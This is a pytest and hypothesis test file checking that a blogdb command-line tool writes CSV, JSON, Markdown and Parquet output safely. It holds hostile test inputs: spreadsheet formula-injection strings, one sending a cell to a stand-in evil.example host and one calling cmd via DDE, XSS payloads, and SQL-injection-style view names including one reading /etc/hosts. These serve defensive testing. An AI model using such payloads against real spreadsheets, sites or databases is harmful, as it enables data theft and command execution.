"""What leaves in CSV, JSON and Markdown harms nobody who opens it."""

from __future__ import annotations

import csv
import io
import json
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import duckdb
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from blogdb.api.session import Rows
from blogdb.cli.display import visible
from blogdb.cli.formats import write
from blogdb.cli.options import RowOptions

from ..conftest import Run
from ..rounds import combined, rounds
from ..texts import ANY

FORMULAS = [
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # noqa: RUF001 - full width, as some programs take it
    "\ufeff=1+1",
    "-",
    "=",
]
HARMLESS = ["a=1", "1+1", " =1", "", "'=1", "-1", "+49", "-1.5", "x\n=1", "#REF", "é"]

# As GitHub reads a table, and with HTML let through, as the careless do.
markdown = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])

texts = st.one_of(
    st.text(ANY, max_size=20),
    st.text(alphabet="\\|`*_~[]()<>&!#-:=\"'\n a1", max_size=20),
    st.sampled_from(
        [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "[x](javascript:alert(1))",
            "![x](https://evil.example/a.png)",
            "<https://evil.example>",
            "&lt;b&gt; &amp; &#60;",
            "a | b \\| c",
            "`a | b`",
            "\\",
            "snake_case __bold__ _it_",
            "~~gone~~",
            "---",
        ]
    ),
)


def written(rows: list[tuple[Any, ...]], columns: list[str], **wanted: Any) -> str:
    """Write rows as the commands do."""
    stream = io.StringIO()
    types = ["VARCHAR"] * len(columns)
    write(Rows(columns, types, iter(rows)), RowOptions(**wanted), stream)
    return stream.getvalue()


def cells(text: str) -> Iterator[list[str]]:
    """Read a Markdown table as a reader sees it: the text of each cell."""
    tokens = markdown.parse(text)
    assert {token.type for token in tokens} <= {
        *("table_open", "table_close", "thead_open", "thead_close", "tbody_open"),
        *("tbody_close", "tr_open", "tr_close", "th_open", "th_close", "td_open"),
        *("td_close", "inline"),
    }
    row: list[str] = []
    for token in tokens:
        if token.type == "tr_open":
            row = []
        elif token.type == "inline":
            children = token.children or []
            assert {child.type for child in children} <= {"text", "text_special"}
            row.append("".join(child.content for child in children))
        elif token.type == "tr_close":
            yield row


@settings(max_examples=rounds(100, 300), deadline=None, database=None)
@given(st.lists(st.tuples(texts, texts), max_size=4), st.tuples(texts, texts))
@example([("<script>alert(1)</script>", "a|b")], ("`a|b`", "[x](y)"))
def test_markdown_shows_what_the_text_is(
    rows: list[tuple[str, str]], names: tuple[str, str]
) -> None:
    """Whatever a text says, a Markdown table keeps its form and shows that text."""
    text = written(rows, list(names), form="markdown")
    found = list(cells(text))
    assert found == [[visible(cell).strip() for cell in row] for row in [names, *rows]]


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_marks_formulas(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    """A text that a spreadsheet would run gets an apostrophe, and that is said."""
    told = written([(text, 1)], ["a", "b"], form="csv")
    assert list(csv.reader(io.StringIO(told, newline=""))) == [
        ["a", "b"],
        [f"'{text}", "1"],
    ]
    said = capsys.readouterr().err
    assert said.startswith("blogdb: 1 text that a spreadsheet would run")
    assert "--exact" in said


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_can_be_exact(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    """--exact writes such a text as it is, and says nothing."""
    told = written([(text,)], ["a"], form="csv", exact=True)
    assert list(csv.reader(io.StringIO(told, newline=""))) == [["a"], [text]]
    assert capsys.readouterr().err == ""


@pytest.mark.parametrize("text", HARMLESS)
def test_csv_keeps_what_is_harmless(
    text: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """A text that no spreadsheet runs, such as a number, is written as it is."""
    told = written([(text,)], ["a"], form="csv")
    assert list(csv.reader(io.StringIO(told, newline=""))) == [["a"], [text]]
    assert capsys.readouterr().err == ""


@settings(max_examples=rounds(100, 300), deadline=None, database=None)
@given(
    st.lists(st.tuples(st.text(ANY, max_size=9), st.text(ANY, max_size=9)), max_size=4)
)
def test_no_cell_of_csv_runs(rows: list[tuple[str, str]]) -> None:
    """Nothing but numbers begins as a formula does; no text gets more than a mark."""
    told = written(rows, ["a", "b"], form="csv")
    read = list(csv.reader(io.StringIO(told, newline="")))[1:]
    for row, given_row in zip(read, rows, strict=True):
        for cell, text in zip(row, given_row, strict=True):
            assert cell in (text, f"'{text}")
            if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")):
                assert float(cell.replace(",", ".")) is not None


@pytest.mark.usefixtures("blog")
def test_numbers_stay_numbers(run_here: Run) -> None:
    """Negative numbers, dates and times are no texts, whatever they begin with."""
    sql = "select -1 as a, -1.5 as b, -1e300::double as c, interval (-1) day as d"
    done = run_here("query", sql, "-f", "csv")
    assert (done.returncode, done.stderr) == (0, "")
    assert done.stdout.splitlines()[1].startswith("-1,-1.5,-1e+300,")
    assert "'" not in done.stdout


def test_formulas_of_names(run_here: Run, blog: Path) -> None:
    """Names of columns are marked as well; --exact reaches the program."""
    sql = """select '=1' as "=cmd", '@x' as b"""
    done = run_here("query", sql, "-f", "csv", "--db", blog)
    assert done.stdout == "'=cmd,b\n'=1,'@x\n"
    assert "3 texts" in done.stderr
    done = run_here("query", sql, "-f", "csv", "--exact", "--db", blog)
    assert (done.stdout, done.stderr) == ("=cmd,b\n=1,@x\n", "")


def _no_constant(name: str) -> None:
    raise AssertionError(f"{name} is not JSON")


@pytest.mark.parametrize(
    ("form", "each_duckdb"),
    combined(
        ["json", "csv", "markdown", "table"], rounds(["2.0", "1.5"], ["1.5", "2.0"])
    ),
    indirect=["each_duckdb"],
)
def test_every_type(
    run: Run, run_here: Run, blog: Path, each_duckdb: dict[str, str], form: str
) -> None:
    """Values of every type that DuckDB has, and their extremes, are written validly."""
    sql = "from test_all_types()"
    arguments = ("query", sql, "-f", form, "--db", blog)
    done = run(*arguments, env=each_duckdb) if each_duckdb else run_here(*arguments)
    assert (done.returncode, done.stderr) == (0, "")
    if form == "json":
        rows = json.loads(done.stdout, parse_constant=_no_constant)
        assert len(rows) == 3
        assert set(rows[2].values()) == {None}
        assert rows[1]["bigint"] == 2**63 - 1
        assert rows[1]["hugeint"] == 2**127 - 1
        assert {len(row) for row in rows} == {len(rows[0])}
    if form == "csv":
        rows = list(csv.reader(io.StringIO(done.stdout)))
        assert {len(row) for row in rows} == {len(rows[0])}


@pytest.mark.usefixtures("blog")
def test_json_keeps_columns_of_one_name(run_here: Run) -> None:
    """Columns of one name are told apart in JSON, as in Parquet."""
    done = run_here("query", "select 1 as a, 2 as a, 3 as a_1", "-f", "json")
    assert list(json.loads(done.stdout)[0].values()) == [1, 2, 3]


@pytest.mark.usefixtures("blog")
def test_parquet_keeps_columns_of_one_name(run_here: Run, tmp_path: Path) -> None:
    """Columns of one name get numbers in Parquet, by which DuckDB tells them apart."""
    sql = """select 1 as a, 2 as "A", 3 as a, 4 as a_1, 5 as "x""y", 6 as "x""y" """
    assert run_here("query", sql, "-o", "rows.parquet").returncode == 0
    told = duckdb.execute("from read_parquet(?)", [str(tmp_path / "rows.parquet")])
    names = [column[0] for column in told.description]
    assert names == ["a", "A_1", "a_2", "a_1_1", 'x"y', 'x"y_1']
    assert told.fetchall() == [(1, 2, 3, 4, 5, 6)]


@pytest.mark.parametrize("form", ["json", "parquet"])
@pytest.mark.usefixtures("blog")
def test_many_columns_of_one_name(run_here: Run, form: str) -> None:
    """Five thousand columns of one name take no longer than as many different ones."""
    seconds = []
    for name in ("a{}", "a"):
        columns = ", ".join(f"1 as {name.format(number)}" for number in range(5000))
        start = time.monotonic()
        done = run_here("query", f"select {columns}", "-f", form, "-o", "rows")
        seconds.append(time.monotonic() - start)
        assert done.returncode == 0
    different, equal = seconds
    assert equal < 2 * different + 0.5


@pytest.mark.parametrize(
    ("form", "name"),
    combined(
        ["csv", "parquet"],
        [
            "it's",
            'a "b" c',
            "'); copy posts to 'new",
            "-dash",
            "line\nfeed",
            "a?b=c",
            "*",
            "[x]",
            "ö" * 127,
            "~",
            "$HOME",
            "a%20b",
            "x\x1b[31m",
        ][:: rounds(2, 1)],
    ),
)
def test_output_of_any_name(run_here: Run, blog: Path, form: str, name: str) -> None:
    """Any name of an output is that file and no other, and holds the rows."""
    folder = blog.parent / "out"
    folder.mkdir()
    arguments = ("--format", form, "--db", blog, f"--output={folder / name}")
    done = run_here("query", "select 1 as one", *arguments)
    assert (done.returncode, done.stdout, done.stderr) == (0, "", "")
    (found,) = folder.iterdir()
    assert found.name == name
    begins = {"csv": b"one\n1\n", "parquet": b"PAR1"}
    assert found.read_bytes().startswith(begins[form])


@pytest.mark.parametrize(
    ("command", "name"),
    combined(
        ["show", "describe"],
        [
            "posts; delete from tags",
            "posts where false",
            '"posts"',
            "posts union all from posts",
            "(select 1)",
            "read_text('/etc/hosts')",
            "/etc/hosts",
            "posts--",
            "$1",
            "main.posts.x",
            "",
            "x" * rounds(20_000, 100_000),
            "pragma_version",
            "duckdb_settings()",
        ][:: rounds(2, 1)],
    ),
)
def test_name_is_a_name(run_here: Run, blog: Path, command: str, name: str) -> None:
    """What stands for a view's name is looked up, and never run."""
    before = blog.read_bytes()
    done = run_here(command, "--db", blog, "--", name)
    assert (done.returncode, done.stdout) == (9, "")
    assert done.stderr.startswith("blogdb: there is no view, table or macro")
    assert done.stderr.count("\n") == 1
    assert blog.read_bytes() == before
